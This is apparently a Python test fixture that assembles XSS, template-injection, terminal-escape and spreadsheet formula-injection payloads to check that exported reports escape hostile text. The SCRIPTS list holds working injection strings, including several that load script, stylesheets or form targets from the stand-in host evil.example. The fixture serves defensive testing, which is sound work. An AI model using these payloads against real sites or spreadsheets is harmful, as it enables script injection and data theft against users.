"""Texts that have run in spreadsheets and browsers of others, and their relations: some four hundred."""

from tests.reports.formats.test_formula_guard import PAYLOADS as FORMULAS

SCRIPTS = [
    "<script>document.title='pwned'</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "</script><script>document.title='pwned'</script>",
    "</title><script>document.title='pwned'</script>",
    "</style><script>document.title='pwned'</script>",
    "</td></tr></table><script>document.title='pwned'</script>",
    "--><script>document.title='pwned'</script><!--",
    "]]><script>document.title='pwned'</script>",
    "<img src=x onerror=document.title='pwned'>",
    '<img src="x" onerror="document.title=\'pwned\'">',
    "<img/src=x/onerror=document.title=1>",
    "<svg onload=document.title='pwned'>",
    "<svg><script>document.title='pwned'</script></svg>",
    "<svg><animate onbegin=document.title='pwned' attributeName=x dur=1s>",
    "<body onload=document.title='pwned'>",
    "<iframe src=javascript:document.title=1></iframe>",
    "<iframe srcdoc=\"<script>parent.document.title='pwned'</script>\"></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>body{display:none}</style>",
    "<form action=//evil.example><input name=a></form>",
    "<details open ontoggle=document.title='pwned'>",
    "<video><source onerror=document.title='pwned'>",
    "<marquee onstart=document.title='pwned'>",
    "<a href=javascript:document.title=1>눌러 보기</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=document.title=1>",
    '<noscript><p title="</noscript><img src=x onerror=document.title=1>">',
    "<template><script>document.title='pwned'</script></template>",
    "\" onmouseover=\"document.title='pwned'",
    "' onfocus='document.title=1' autofocus='",
    "javascript:document.title='pwned'",
    "&lt;script&gt;document.title=1&lt;/script&gt;",
    "&#60;script&#62;document.title=1&#60;/script&#62;",
    "<scr\0ipt>document.title='pwned'</scr\0ipt>",
    "<\u200bscript>document.title='pwned'</script>",
    "＜script＞document.title='pwned'＜/script＞",
    "{{constructor.constructor('document.title=1')()}}",
    "${7*7}",
    "#{7*7}",
    "{{headline}}",
    "_x0041_ _x003D_1+1",
    "_x000D_=1+1",
    "]]>&amp;<b>굵게</b>",
    "\u202e뒤집힌 글\u202c",
    "\x1b]0;pwned\x07\x1b[31m빨강",
    "한 줄\n=1+1\n둘째 줄",
    "빈칸이  둘이고 끝에 있다  ",
    "큰따옴표 \"안\" 작은따옴표 '안' 쉼표, 세미콜론; 탭\t끝",
    "2026-11-20",
    "00123",
    "1E5",
    "3/4",
    "TRUE",
    "010-1234-5678",
    "🙂 이모지 𠮷 한자",
]
BEFORE = ("", " ", "\t", "\n", "\u200b", "\ufeff", "\u00a0")

LONGEST = 4_000
PAYLOADS: list[str] = [
    text
    for text in dict.fromkeys(
        [
            *SCRIPTS,
            *(before + formula for formula in FORMULAS for before in BEFORE[:: 3 if len(formula) > 40 else 1]),
        ]
    )
    if len(text) <= LONGEST
]
"""Longer ones are held in test_formula_guard.py: a cell of Excel does not take them whole."""
